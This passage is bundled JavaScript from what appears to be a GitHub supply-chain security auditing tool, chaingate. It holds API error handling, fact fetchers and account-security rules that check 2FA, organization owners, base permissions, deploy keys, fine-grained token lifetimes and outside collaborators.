import { createRequire as __chaingateCreateRequire } from 'node:module'; const require = __chaingateCreateRequire(import.meta.url);
import {
  createSource
} from "./chunk-YNVH4HYO.js";
import {
  LineIndex,
  Scalar,
  YamlSyntaxError,
  asMap,
  asSeq,
  defineRule,
  deref,
  entry,
  isAlias,
  isMap,
  isScalar,
  isSeq,
  locate,
  parseYaml,
  parseYamlDocuments,
  scalarText,
  syntaxErrorPosition
} from "./chunk-K4LXVCRM.js";
import {
  DependencyPaths,
  SEVERITY_WORDS,
  advisoryLabel,
  describePath,
  emptyOutcome,
  gateOutcome,
  idsLabel,
  imageFixState,
  imageMatchFields,
  imagePackageLabel,
  imageUnknowns,
  introducedView,
  judged,
  listSome,
  locationOf,
  matchFields,
  matchSeverity,
  nothingToCheck,
  packageKey,
  packageLabel,
  sourceLabel,
  uncheckedResults,
  withImages
} from "./chunk-GMWDHYXJ.js";
import {
  Minimatch,
  minimatch
} from "./chunk-36AHBP4L.js";
import {
  DEFAULT_POLICY_PATHS
} from "./chunk-LC5GA6DZ.js";
import {
  readersFor
} from "./chunk-7IAANKW2.js";
import {
  errorMessage
} from "./chunk-TITGSPWO.js";

// src/model/fact.ts
function known(value, gaps = []) {
  return gaps.length > 0 ? { known: true, value, gaps } : { known: true, value };
}
function unknownFact(cause, reason, permission) {
  return permission ? { known: false, cause, reason, permission } : { known: false, cause, reason };
}
function noTarget() {
  return unknownFact("no-target", "no repository was named (use --repo owner/name or GITHUB_REPOSITORY)");
}
function defineFact(id, fetch, options = {}) {
  return options.scope ? { id, scope: options.scope, fetch } : { id, fetch };
}
function isGroupScoped(def) {
  return def.scope === "workflow-group";
}

// src/github/api-error.ts
var ApiFault = class extends Error {
  kind;
  retryable;
  constructor(kind, message2, options = {}) {
    super(message2, options.cause === void 0 ? void 0 : { cause: options.cause });
    this.kind = kind;
    this.retryable = options.retryable ?? false;
    this.name = this.retryable ? "ApiFault" : "AbortError";
  }
};
function isApiFault(error) {
  return error instanceof ApiFault;
}
function faultIn(error) {
  let current = error;
  for (let depth = 0; depth < 5 && current; depth += 1) {
    if (current instanceof ApiFault) return current;
    current = current.cause;
  }
  return void 0;
}
function graphqlErrors(error) {
  const candidates = [error.errors, error.data?.errors, error.response?.data?.errors];
  for (const candidate of candidates) if (Array.isArray(candidate) && candidate.length > 0) return candidate;
  return void 0;
}
function acceptedPermissionsOf(headers) {
  const header = headers?.["x-accepted-github-permissions"];
  if (typeof header !== "string" || header.trim() === "") return void 0;
  return header.split(/[;,]/).map((part) => part.trim()).filter(Boolean).map((part) => part.replace("=", ": ")).join(", ");
}
function answerText(response, fallback) {
  const data = response?.data;
  if (data && typeof data === "object" && typeof data.message === "string") return shorten(data.message);
  const type = String(response?.headers?.["content-type"] ?? "");
  if (typeof data === "string" && data.trim() !== "") return type.includes("html") || /^\s*</.test(data) ? "an HTML page, not JSON" : "a body that is not JSON";
  return shorten(fallback);
}
function shorten(text) {
  const line = (text.split("\n")[0] ?? "").replace(/ - https?:\/\/\S+$/, "").trim();
  return line.length > 160 ? `${line.slice(0, 157)}...` : line;
}
function isRateLimitAnswer(status, message2, headers) {
  if (status === 429) return true;
  if (status !== 403) return false;
  return /rate limit/i.test(message2) || headers?.["x-ratelimit-remaining"] === "0" || headers?.["retry-after"] !== void 0;
}
function requestedWait(headers, now = Date.now()) {
  const retryAfter = Number(headers?.["retry-after"]);
  if (Number.isFinite(retryAfter) && retryAfter >= 0) return Math.ceil(retryAfter);
  const reset = Number(headers?.["x-ratelimit-reset"]);
  if (headers?.["x-ratelimit-remaining"] === "0" && Number.isFinite(reset)) return Math.max(0, Math.ceil(reset - now / 1e3));
  return void 0;
}
function rateLimitMessage(headers, secondary) {
  const wait = requestedWait(headers);
  const what2 = secondary ? "GitHub API secondary rate limit reached" : "GitHub API rate limit exhausted";
  return wait === void 0 ? what2 : `${what2} (GitHub asked to wait ${wait} s, longer than chaingate waits)`;
}
function classifyApiError(error) {
  const fault = faultIn(error);
  if (fault) return { kind: fault.kind, message: fault.message };
  if (typeof error !== "object" || error === null) return { kind: "other", message: String(error) };
  const e = error;
  const gql = graphqlErrors(e);
  if (gql && !(typeof e.status === "number" && e.status >= 400)) {
    const types = [...new Set(gql.map((item) => item.type ?? "ERROR"))];
    const first = shorten(gql[0]?.message ?? "error");
    const base = { graphqlTypes: types };
    if (types.includes("RATE_LIMITED")) return { ...base, kind: "rate-limit", message: `GitHub's GraphQL API rate limit exhausted (${first})` };
    if (types.every((type) => type === "NOT_FOUND")) return { ...base, kind: "not-found", message: `GitHub's GraphQL API answered NOT_FOUND (${first})` };
    if (types.some((type) => type === "FORBIDDEN" || type === "INSUFFICIENT_SCOPES")) {
      return { ...base, kind: "permission", message: `GitHub's GraphQL API answered ${types.join(", ")} (${first})` };
    }
    return { ...base, kind: "server-error", message: `GitHub's GraphQL API answered errors: ${types.join(", ")} (${first})` };
  }
  if (typeof e.status !== "number") return { kind: "other", message: errorMessage(error) };
  const status = e.status;
  const response = e.response;
  if (!response) return { kind: "network", message: networkMessage(e) };
  const headers = response.headers;
  const message2 = answerText(response, errorMessage(error));
  const accepted = acceptedPermissionsOf(headers);
  const withPermissions = accepted ? { acceptedPermissions: accepted } : {};
  if (status === 401) return { kind: "unauthorized", status, message: `the token was rejected (401 ${message2})` };
  if (isRateLimitAnswer(status, message2, headers)) return { kind: "rate-limit", status, message: rateLimitMessage(headers, /secondary/i.test(message2)) };
  if (status === 403) return { kind: "permission", status, message: `GitHub answered 403 (${message2})`, ...withPermissions };
  if (status === 404) return { kind: "not-found", status, message: `GitHub answered 404 (${message2})`, ...withPermissions };
  if (status >= 500) return { kind: "server-error", status, message: `GitHub answered ${status} (${message2})` };
  if (status >= 300 && status < 400) return { kind: "redirect", status, message: `GitHub answered ${status} without a usable Location` };
  return { kind: "client-error", status, message: `GitHub answered ${status} (${message2})`, ...withPermissions };
}
function networkMessage(error) {
  let host2 = "the GitHub API";
  try {
    if (error.request?.url) host2 = new URL(error.request.url).host;
  } catch {
  }
  const code = causeCode(error);
  if (code === "ECONNREFUSED") return `could not connect to ${host2} (connection refused)`;
  if (code === "ENOTFOUND" || code === "EAI_AGAIN") return `could not connect to ${host2} (the name does not resolve: ${code})`;
  if (code === "ECONNRESET" || code === "UND_ERR_SOCKET") return `the connection to ${host2} was closed before GitHub answered (${code})`;
  return `could not connect to ${host2}${code ? ` (${code})` : ` (${shorten(errorMessage(error))})`}`;
}
function causeCode(error) {
  let current = error;
  for (let depth = 0; depth < 6 && current && typeof current === "object"; depth += 1) {
    const code = current.code;
    if (typeof code === "string") return code;
    current = current.cause;
  }
  return void 0;
}

// src/github/api-fact.ts
function isApiError(error) {
  if (typeof error !== "object" || error === null || isApiFault(error) || isApiFault(error.cause)) return false;
  const candidate = error;
  return typeof candidate.status === "number" && typeof candidate.response === "object" && candidate.response !== null;
}
function acceptedPermissions(error) {
  return acceptedPermissionsOf(error.response?.headers);
}
function factFromApiError(error, options) {
  if (isApiError(error)) {
    const mapped = options.onStatus?.(error);
    if (mapped) return mapped;
    if (error.status === 404) {
      const notFound = options.onNotFound?.(error);
      if (notFound) return notFound;
    }
  }
  const failure = classifyApiError(error);
  const reason = `could not read ${options.what}: ${failure.message}`;
  switch (failure.kind) {
    case "unauthorized":
      return unknownFact("permission", reason);
    case "permission":
    case "not-found":
      return unknownFact("permission", reason, failure.acceptedPermissions ?? options.permission);
    default:
      return unknownFact("api-error", reason);
  }
}
async function apiFact(client, call, options) {
  if (!client) {
    return unknownFact("no-token", `${options.what} was not read: no GitHub token (offline run)`, options.permission);
  }
  try {
    return known(await call(client));
  } catch (error) {
    return factFromApiError(error, options);
  }
}

// src/github/graphql.ts
var SAML_QUERY = `query chaingateSaml($login: String!) {
  organization(login: $login) {
    samlIdentityProvider { ssoUrl }
  }
}`;
var PULL_REQUEST_QUERY = `query chaingatePullRequest($owner: String!, $name: String!, $number: Int!) {
  repository(owner: $owner, name: $name) {
    pullRequest(number: $number) {
      number
      headRefOid
      author { __typename login }
      reviews(first: 100) {
        pageInfo { hasNextPage }
        nodes { author { __typename login } state submittedAt commit { oid } }
      }
      commits(first: 100) {
        totalCount
        pageInfo { hasNextPage }
        nodes {
          commit {
            oid
            author { user { login } }
            signature { isValid state }
          }
        }
      }
    }
  }
}`;
function graphql(client, query, variables) {
  return client.octokit.graphql(query, { ...variables, baseUrl: client.graphqlUrl.replace(/\/graphql\/?$/, "") });
}
function actorLogin(actor) {
  if (!actor) return null;
  return actor.__typename === "Bot" && !actor.login.endsWith("[bot]") ? `${actor.login}[bot]` : actor.login;
}

// src/github/facts/repository.ts
var repositoryFact = defineFact("github.repository", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(ctx, "elevated", async (client) => (await client.octokit.rest.repos.get({ owner, repo })).data, {
    what: `repository ${owner}/${repo}`,
    permission: "Metadata: read",
    // security_and_analysis is shown to admins only: if the first token does not get it, the other may.
    complete: (repository) => Boolean(repository.security_and_analysis)
  });
});

// src/github/facts/support.ts
function clientsFor(ctx, tier) {
  const ordered = tier === "elevated" ? [ctx.elevated, ctx.github] : [ctx.github, ctx.elevated];
  const out = [];
  for (const client of ordered) if (client && !out.includes(client)) out.push(client);
  return out;
}
function isGhes(client) {
  if (!client) return false;
  try {
    const url = new URL(client.apiUrl);
    if (url.hostname === "api.github.com") return false;
    if (/^api\.[^.]+\.ghe\.com$/.test(url.hostname)) return false;
    return url.pathname.replace(/\/+$/, "").endsWith("/api/v3");
  } catch {
    return false;
  }
}
function isPermissionError(error) {
  const failure = classifyApiError(error);
  if (failure.kind === "unauthorized" || failure.kind === "permission" || failure.kind === "not-found") return true;
  return failure.kind === "client-error" && failure.status === 422;
}
async function tieredFact(ctx, tier, call, options) {
  const clients = clientsFor(ctx, tier);
  if (clients.length === 0) return apiFact(null, call, options);
  let first;
  let partial;
  for (const client of clients) {
    try {
      const value = await call(client);
      if (!options.complete || options.complete(value)) return known(value);
      partial ??= known(value);
    } catch (error) {
      const fact = mapError(error, options, client);
      if (fact.known) return fact;
      if (fact.cause === "not-available" && !(isApiError(error) && error.status === 404)) return fact;
      first ??= fact;
      if (!isPermissionError(error)) return partial ?? first;
    }
  }
  return partial ?? first;
}
function mapError(error, options, client) {
  const fact = factFromApiError(error, options);
  if (!fact.known && options.ghesFeature && isGhes(client) && isApiError(error) && error.status === 404 && !options.onNotFound?.(error)) {
    return unknownFact(
      "not-available",
      `could not read ${options.what}: ${options.ghesFeature} is not available on this GitHub Enterprise Server (404), or the token lacks ${options.permission}`,
      options.permission
    );
  }
  return fact;
}
async function listAll(client, route, parameters, cap = Number.POSITIVE_INFINITY) {
  const items2 = [];
  let truncated = false;
  let response = await client.octokit.request(route, { per_page: 100, ...parameters });
  for (let page = 1; ; page += 1) {
    const data = response.data;
    if (!Array.isArray(data)) throw new ApiFault("malformed", `page ${page} of ${route} is not a list`);
    items2.push(...data);
    const next = nextPage(response.headers.link);
    if (items2.length >= cap) {
      truncated = items2.length > cap || next !== void 0;
      break;
    }
    if (!next) break;
    response = await client.octokit.request({ method: "GET", url: next });
  }
  return { items: truncated ? items2.slice(0, cap) : items2, truncated };
}
function nextPage(link) {
  if (typeof link !== "string") return void 0;
  return /<([^>]+)>;\s*rel="next"/.exec(link)?.[1];
}
var defaultBranchFact = defineFact("github.default-branch", async (ctx) => {
  const repository = await ctx.get(repositoryFact);
  return repository.known ? known(repository.value.default_branch) : repository;
});
var ownerFact = defineFact("github.owner", async (ctx) => {
  const repository = await ctx.get(repositoryFact);
  if (!repository.known) return repository;
  const owner = repository.value.owner;
  return known({ login: owner.login, type: owner.type === "Organization" ? "Organization" : "User" });
});
var organizationLoginFact = defineFact("github.organization-login", async (ctx) => {
  const owner = await ctx.get(ownerFact);
  if (!owner.known) return owner;
  if (owner.value.type !== "Organization") {
    return unknownFact(
      "not-applicable",
      `${owner.value.login} is a personal account, not an organization: organization settings (2FA requirement, owners, base permission...) do not exist for it, so they cannot be checked; turn the accounts rules off in the policy for personal repositories`
    );
  }
  return known(owner.value.login);
});
function describeError(error) {
  return classifyApiError(error).message;
}
function ageInDays(iso, now) {
  if (!iso) return null;
  const time = Date.parse(iso);
  if (Number.isNaN(time)) return null;
  return Math.floor((now.getTime() - time) / 864e5);
}

// src/github/facts/organization.ts
var ORG_OWNER_PERMISSION = 'organization owner: classic PAT with admin:org (read:org for lists), or a GitHub App / fine-grained PAT with organization "Administration: read" and "Members: read"';
var organizationFact = defineFact("github.organization", async (ctx) => {
  const login = await ctx.get(organizationLoginFact);
  if (!login.known) return login;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const data = (await client.octokit.rest.orgs.get({ org: login.value })).data;
      const ownerView = typeof data.two_factor_requirement_enabled === "boolean" || typeof data.default_repository_permission === "string";
      return { login: login.value, data, ownerView };
    },
    { what: `organization ${login.value}`, permission: "Metadata: read", complete: (org) => org.ownerView }
  );
});
var ownerViewFact = defineFact("github.organization-owner-view", (ctx) => ownerViewOf(ctx));
async function ownerViewOf(ctx) {
  const org = await ctx.get(organizationFact);
  if (!org.known) return org;
  if (!org.value.ownerView) {
    return unknownFact(
      "permission",
      `the token cannot see the settings of organization ${org.value.login} (GitHub returns them to organization owners only); pass an owner's token or a GitHub App token as admin-token`,
      ORG_OWNER_PERMISSION
    );
  }
  return org;
}
function ownerOnly(what2) {
  return {
    what: what2,
    permission: ORG_OWNER_PERMISSION,
    onStatus: (error) => error.status === 422 || error.status === 403 && !/rate limit/i.test(error.message) ? unknownFact("permission", `could not list ${what2}: only organization owners may filter by 2FA status (GitHub answered ${error.status}: ${error.message.split("\n")[0]})`, acceptedPermissions(error) ?? ORG_OWNER_PERMISSION) : void 0
  };
}
var membersWithout2faFact = defineFact("github.org-members-without-2fa", async (ctx) => {
  const login = await ctx.get(organizationLoginFact);
  if (!login.known) return login;
  const org = login.value;
  const [members, outside] = await Promise.all([
    tieredFact(ctx, "elevated", async (client) => (await listAll(client, "GET /orgs/{org}/members", { org, filter: "2fa_disabled" })).items, ownerOnly(`members of ${org} without 2FA`)),
    tieredFact(ctx, "elevated", async (client) => (await listAll(client, "GET /orgs/{org}/outside_collaborators", { org, filter: "2fa_disabled" })).items, ownerOnly(`outside collaborators of ${org} without 2FA`))
  ]);
  if (!members.known) return members;
  if (!outside.known) return outside;
  const slim = (users) => users.map((user) => ({ login: user.login, ...user.id !== void 0 ? { id: user.id } : {} }));
  return known({ members: slim(members.value), outsideCollaborators: slim(outside.value) });
});
var orgOwnersFact = defineFact("github.org-owners", async (ctx) => {
  const org = await ctx.get(ownerViewFact);
  if (!org.known) return org;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => (await listAll(client, "GET /orgs/{org}/members", { org: org.value.login, role: "admin" })).items.map((user) => ({ login: user.login })),
    { what: `owners of ${org.value.login}`, permission: "Members: read (organization)" }
  );
});
var outsideCollaboratorsFact = defineFact("github.repo-outside-collaborators", async (ctx) => {
  const login = await ctx.get(organizationLoginFact);
  if (!login.known) return login;
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const { items: items2 } = await listAll(client, "GET /repos/{owner}/{repo}/collaborators", { owner, repo, affiliation: "outside" });
      return items2.map((item) => ({ login: item.login, roleName: item.role_name ?? "", permissions: item.permissions ?? {} }));
    },
    { what: `outside collaborators of ${owner}/${repo}`, permission: "Administration: read (repository; GitHub requires push access to list collaborators)" }
  );
});
var deployKeysFact = defineFact("github.deploy-keys", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const { items: items2 } = await listAll(client, "GET /repos/{owner}/{repo}/keys", { owner, repo });
      return items2.map((item) => ({ id: item.id, title: item.title, readOnly: item.read_only, createdAt: item.created_at, ...item.last_used !== void 0 ? { lastUsed: item.last_used } : {} }));
    },
    { what: `deploy keys of ${owner}/${repo}`, permission: "Administration: read" }
  );
});
var fineGrainedTokensFact = defineFact("github.org-fine-grained-pats", async (ctx) => {
  const login = await ctx.get(organizationLoginFact);
  if (!login.known) return login;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const { items: items2 } = await listAll(
        client,
        "GET /orgs/{org}/personal-access-tokens",
        { org: login.value }
      );
      return items2.map((item) => ({
        id: item.id,
        owner: item.owner.login,
        ...item.token_name ? { name: item.token_name } : {},
        expiresAt: item.token_expires_at,
        expired: item.token_expired,
        lastUsedAt: item.token_last_used_at
      }));
    },
    {
      what: `fine-grained personal access tokens approved in ${login.value}`,
      permission: 'a GitHub App installation token with organization "Personal access tokens: read" (GitHub allows only Apps on this endpoint)',
      ghesFeature: "the fine-grained personal access token API"
    }
  );
});
var samlSsoFact = defineFact("github.org-saml-sso", async (ctx) => {
  const org = await ctx.get(ownerViewFact);
  if (!org.known) return org;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const data = await graphql(client, SAML_QUERY, { login: org.value.login });
      if (!data.organization) throw new Error(`organization ${org.value.login} not visible to GraphQL`);
      return { ssoUrl: data.organization.samlIdentityProvider?.ssoUrl ?? null };
    },
    { what: `SAML single sign-on of ${org.value.login}`, permission: ORG_OWNER_PERMISSION, ghesFeature: "SAML single sign-on for organizations" }
  );
});

// src/rules/accounts/deploy-keys.ts
var deployKeys = defineRule({
  meta: {
    id: "deploy-keys",
    area: "accounts",
    severity: "medium",
    title: "Deploy key with write access or past its rotation age",
    rationale: "A deploy key is a long-lived credential outside any user's 2FA; with write access it pushes past pull requests (it is a ruleset bypass actor type of its own).",
    remediation: "Make deploy keys read-only (use a GitHub App for writes), and rotate keys older than the policy age.",
    references: ["SSC-09", "CNCF SSCP: key rotation, short-lived credentials"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{o}/{r}/keys needs repository admin read: pass admin-token." }
  },
  needs: [deployKeysFact],
  defaultOptions: { allowWrite: false, maxAgeDays: 365 },
  strictOptions: { maxAgeDays: 180 },
  optionsSchema: {
    type: "object",
    properties: { allowWrite: { type: "boolean" }, maxAgeDays: { type: "integer", minimum: 1, description: "Keys older than this are due for rotation." } }
  },
  evaluate(ctx) {
    const fact = ctx.need(deployKeysFact);
    const results = [];
    for (const key2 of fact) {
      const age = ageInDays(key2.createdAt, ctx.now) ?? 0;
      const problems = [!key2.readOnly && !ctx.options.allowWrite ? "has write access" : null, age > ctx.options.maxAgeDays ? `is ${age} days old (policy: ${ctx.options.maxAgeDays})` : null].filter(Boolean);
      if (problems.length) results.push({ status: "fail", message: `deploy key "${key2.title}" (id ${key2.id}) ${problems.join(" and ")}` });
    }
    return results.length ? results : [{ status: "pass", message: `${fact.length} deploy key(s), all read-only and recent enough` }];
  }
});

// src/rules/accounts/shared.ts
var ORG_OWNER_ACCESS = {
  token: "elevated",
  fineGrained: ["Administration: read (organization)", "Members: read (organization)"],
  note: "Organization owners only (classic PAT: admin:org / read:org). Pass an owner token or a GitHub App installation token as admin-token. On a repository owned by a personal account the rule is unknown (not applicable): disable it there."
};

// src/rules/accounts/org-base-permission.ts
var RANK = { none: 0, read: 1, write: 2, admin: 3 };
var orgBasePermission = defineRule({
  meta: {
    id: "org-base-permission",
    area: "accounts",
    severity: "high",
    title: "Organization base permission grants write or admin",
    rationale: "The base permission applies to every member on every repository; write or admin there makes every member account a path to every codebase.",
    remediation: "Organization settings > Member privileges > Base permissions: Read or No permission; grant write through teams.",
    references: ["SSC-10", "OSPS-AC-02.01", "Legitify: default_repository_permission_is_not_none", "CIS 1.3.8"],
    access: ORG_OWNER_ACCESS
  },
  needs: [ownerViewFact],
  defaultOptions: { max: "read" },
  strictOptions: { max: "none" },
  optionsSchema: { type: "object", properties: { max: { enum: ["none", "read"], description: "Highest acceptable base permission." } } },
  evaluate(ctx) {
    const org = ctx.need(ownerViewFact);
    const base = org.data.default_repository_permission;
    if (typeof base !== "string") return [{ status: "unknown", message: `GitHub did not return the base permission of ${org.login}`, permission: "Administration: read (organization)" }];
    if ((RANK[base] ?? 3) <= RANK[ctx.options.max]) return [{ status: "pass", message: `base permission of ${org.login} is ${base}` }];
    return [{ status: "fail", message: `base permission of ${org.login} is ${base}; the policy allows at most ${ctx.options.max}` }];
  }
});

// src/rules/accounts/org-fine-grained-pat-lifetime.ts
var orgFineGrainedPatLifetime = defineRule({
  meta: {
    id: "org-fine-grained-pat-lifetime",
    area: "accounts",
    severity: "medium",
    title: "Fine-grained tokens without expiry or with a long lifetime",
    rationale: "A token that never expires stays valid after its owner leaves or loses the laptop; short lifetimes bound the damage.",
    remediation: "Organization settings > Personal access tokens: require approval and set a maximum lifetime; revoke the listed tokens and have them reissued.",
    references: ["SSC-09", "CNCF SSCP: short-lived credentials"],
    access: {
      token: "elevated",
      fineGrained: ["Personal access tokens: read (organization, GitHub App only)"],
      note: "Only a GitHub App installation token can list them; the organization's PAT policy settings are not in the API."
    },
    baseline: false
  },
  needs: [fineGrainedTokensFact],
  defaultOptions: { maxLifetimeDays: 366 },
  optionsSchema: { type: "object", properties: { maxLifetimeDays: { type: "integer", minimum: 1, description: "Tokens expiring further away than this fail." } } },
  evaluate(ctx) {
    const fact = ctx.need(fineGrainedTokensFact);
    const limit = ctx.now.getTime() + ctx.options.maxLifetimeDays * 864e5;
    const bad = fact.filter((token) => !token.expired && (token.expiresAt === null || Date.parse(token.expiresAt) > limit));
    if (bad.length === 0) return [{ status: "pass", message: `${fact.length} approved fine-grained token(s), all expiring within ${ctx.options.maxLifetimeDays} days` }];
    return bad.map((token) => ({
      status: "fail",
      message: `fine-grained token ${token.name ? `"${token.name}" ` : ""}(id ${token.id}) of ${token.owner} ${token.expiresAt ? `expires ${token.expiresAt}` : "never expires"}`
    }));
  }
});

// src/rules/accounts/org-members-without-2fa.ts
var SHOWN = 50;
var orgMembersWithout2fa = defineRule({
  meta: {
    id: "org-members-without-2fa",
    area: "accounts",
    severity: "high",
    title: "Organization members or outside collaborators without 2FA",
    rationale: "Each account without a second factor is one phished password away from write access; the 2FA requirement removes them, so list them first.",
    remediation: "Ask the listed people to enable 2FA (or remove them), then require 2FA for the organization.",
    references: ["SSC-02", "GitHub guide: securing accounts (A6)", "OSPS-AC-01.01"],
    access: ORG_OWNER_ACCESS
  },
  needs: [membersWithout2faFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(membersWithout2faFact);
    const { members, outsideCollaborators: outsideCollaborators2 } = fact;
    const list = (users) => users.slice(0, SHOWN).map((user) => user.login).join(", ") + (users.length > SHOWN ? ` and ${users.length - SHOWN} more` : "");
    const results = [];
    if (members.length) results.push({ status: "fail", message: `${members.length} member(s) without 2FA: ${list(members)}` });
    if (outsideCollaborators2.length) results.push({ status: "fail", message: `${outsideCollaborators2.length} outside collaborator(s) without 2FA: ${list(outsideCollaborators2)}` });
    return results.length ? results : [{ status: "pass", message: "every member and outside collaborator has 2FA enabled" }];
  }
});

// src/rules/accounts/org-owner-count.ts
var orgOwnerCount = defineRule({
  meta: {
    id: "org-owner-count",
    area: "accounts",
    severity: "medium",
    title: "Organization owner count outside the policy bounds",
    rationale: "Owners can change every setting and bypass every protection; each is a high-value account. A single owner is a lock-out risk.",
    remediation: "Demote owners who do not need it (use teams and custom roles), or appoint a second owner.",
    references: ["SSC-10", "Legitify: organization_has_too_many_admins", "CIS 1.3.3"],
    access: ORG_OWNER_ACCESS
  },
  needs: [orgOwnersFact],
  defaultOptions: { min: 2, max: 5 },
  strictOptions: { max: 3 },
  optionsSchema: { type: "object", properties: { min: { type: "integer", minimum: 1 }, max: { type: "integer", minimum: 1 } } },
  evaluate(ctx) {
    const owners = ctx.need(orgOwnersFact);
    const count = owners.length;
    const names = owners.map((owner) => owner.login).join(", ");
    if (count > ctx.options.max) return [{ status: "fail", message: `${count} organization owners (${names}); the policy allows at most ${ctx.options.max}` }];
    if (count < ctx.options.min) return [{ status: "fail", message: `${count} organization owner(s) (${names}); the policy asks for at least ${ctx.options.min}` }];
    return [{ status: "pass", message: `${count} organization owners (${names})` }];
  }
});

// src/rules/accounts/org-public-repo-creation.ts
var orgPublicRepoCreation = defineRule({
  meta: {
    id: "org-public-repo-creation",
    area: "accounts",
    severity: "medium",
    title: "Members can create public repositories",
    rationale: "A member who creates a public repository (or a compromised member account) can publish internal code or secrets outside any review.",
    remediation: "Organization settings > Member privileges > Repository creation: untick Public.",
    references: ["SSC-10", "Legitify: non_admins_can_create_public_repositories", "CIS 1.2.2"],
    access: ORG_OWNER_ACCESS
  },
  needs: [ownerViewFact],
  defaultOptions: {},
  evaluate(ctx) {
    const org = ctx.need(ownerViewFact);
    const value = org.data.members_can_create_public_repositories;
    if (typeof value !== "boolean") return [{ status: "unknown", message: `GitHub did not return who may create public repositories in ${org.login}`, permission: "Administration: read (organization)" }];
    return value ? [{ status: "fail", message: `members of ${org.login} can create public repositories` }] : [{ status: "pass", message: `only owners can create public repositories in ${org.login}` }];
  }
});

// src/rules/accounts/org-saml-sso.ts
var orgSamlSso = defineRule({
  meta: {
    id: "org-saml-sso",
    area: "accounts",
    severity: "medium",
    title: "Organization does not use SAML single sign-on",
    rationale: "With SSO, access follows the identity provider: offboarding and MFA policy apply to GitHub too.",
    remediation: "Organization settings > Authentication security > Enable SAML authentication (GitHub Enterprise Cloud); if SSO is configured for the whole enterprise, set `enterpriseManaged: true`.",
    references: ["SSC-05", "GitHub guide: securing accounts (A1)", "Legitify: organization_not_using_single_sign_on"],
    access: { ...ORG_OWNER_ACCESS, note: `${ORG_OWNER_ACCESS.note} Read with one GraphQL query (organization.samlIdentityProvider).` },
    baseline: false
  },
  needs: [samlSsoFact],
  defaultOptions: { enterpriseManaged: false },
  optionsSchema: { type: "object", properties: { enterpriseManaged: { type: "boolean", description: "SSO is configured at the enterprise level (invisible to the organization API)." } } },
  evaluate(ctx) {
    const fact = ctx.need(samlSsoFact);
    if (fact.ssoUrl) return [{ status: "pass", message: `SAML SSO through ${fact.ssoUrl}` }];
    if (ctx.options.enterpriseManaged) return [{ status: "pass", message: "the organization has no SAML provider of its own; the policy says SSO is enforced by the enterprise" }];
    return [{ status: "fail", message: "the organization has no SAML identity provider (if the enterprise enforces SSO, set enterpriseManaged: true)" }];
  }
});

// src/rules/accounts/org-two-factor-required.ts
var orgTwoFactorRequired = defineRule({
  meta: {
    id: "org-two-factor-required",
    area: "accounts",
    severity: "high",
    title: "Organization does not require two-factor authentication",
    rationale: "A password alone is phished or reused every day; 2FA is, in GitHub's words, the best way to improve account security.",
    remediation: "Organization settings > Authentication security > Require two-factor authentication (after checking who lacks it: members without 2FA are removed).",
    references: ["SSC-01", "GitHub guide: securing accounts (A2, A6)", "OSPS-AC-01.01", "Legitify: two_factor_authentication_not_required_for_org", "CIS 1.3.5"],
    access: ORG_OWNER_ACCESS
  },
  needs: [ownerViewFact],
  defaultOptions: {},
  evaluate(ctx) {
    const org = ctx.need(ownerViewFact);
    const required = org.data.two_factor_requirement_enabled;
    if (typeof required !== "boolean") return [{ status: "unknown", message: `GitHub did not return the 2FA requirement of ${org.login}`, permission: "Administration: read (organization)" }];
    return required ? [{ status: "pass", message: `${org.login} requires two-factor authentication` }] : [{ status: "fail", message: `${org.login} does not require two-factor authentication` }];
  }
});

// src/rules/accounts/outside-collaborators.ts
var outsideCollaborators = defineRule({
  meta: {
    id: "outside-collaborators",
    area: "accounts",
    severity: "high",
    title: "Outside collaborators with admin or write access",
    rationale: "Outside collaborators are outside the organization's SSO, 2FA policy reviews and offboarding; admin lets them change protection, write lets them push.",
    remediation: "Lower outside collaborators to read or triage, or make them members of a team under the organization's controls.",
    references: ["SSC-10", "Allstar: Outside Collaborators", "OSPS-AC-02.01"],
    access: {
      token: "elevated",
      fineGrained: ["Metadata: read", "Administration: read"],
      note: "GitHub lists collaborators to users with push access; organization repositories only (unknown, not applicable, for personal ones)."
    }
  },
  needs: [outsideCollaboratorsFact],
  defaultOptions: { allowWrite: true },
  strictOptions: { allowWrite: false },
  optionsSchema: { type: "object", properties: { allowWrite: { type: "boolean", description: "Accept outside collaborators with write (push) access." } } },
  evaluate(ctx) {
    const fact = ctx.need(outsideCollaboratorsFact);
    const admins = fact.filter((user) => user.permissions.admin || user.roleName === "admin");
    const writers = fact.filter((user) => !admins.includes(user) && (user.permissions.maintain || user.permissions.push || user.roleName === "write" || user.roleName === "maintain"));
    const results = [];
    if (admins.length) results.push({ status: "fail", message: `outside collaborator(s) with admin: ${admins.map((user) => user.login).join(", ")}` });
    if (writers.length && !ctx.options.allowWrite) results.push({ status: "fail", severity: "medium", message: `outside collaborator(s) with write: ${writers.map((user) => `${user.login} (${user.roleName || "write"})`).join(", ")}` });
    return results.length ? results : [{ status: "pass", message: `${fact.length} outside collaborator(s), none with ${ctx.options.allowWrite ? "admin" : "admin or write"}` }];
  }
});

// src/rules/accounts/index.ts
var accountsRules = [
  orgTwoFactorRequired,
  orgMembersWithout2fa,
  orgBasePermission,
  orgOwnerCount,
  orgPublicRepoCreation,
  orgSamlSso,
  orgFineGrainedPatLifetime,
  outsideCollaborators,
  deployKeys
];

// src/rules/artifacts/index.ts
var artifactsRules = [];

// src/object-memo.ts
var ObjectMemo = class {
  key = /* @__PURE__ */ Symbol("memo");
  get(object) {
    return object[this.key];
  }
  set(object, value) {
    Object.defineProperty(object, this.key, { value, writable: true, configurable: true, enumerable: false });
    return this;
  }
};

// src/workflow/model.ts
import path from "node:path";

// src/workspace/workflow-files.ts
var MAX_WORKFLOW_BYTES = 1024 * 1024;
var WORKFLOW_PATTERN = /^\.github\/workflows\/[^/]+\.ya?ml$/;
var ACTION_PATTERN = /(^|\/)action\.ya?ml$/;
function workflowFileKind(relative) {
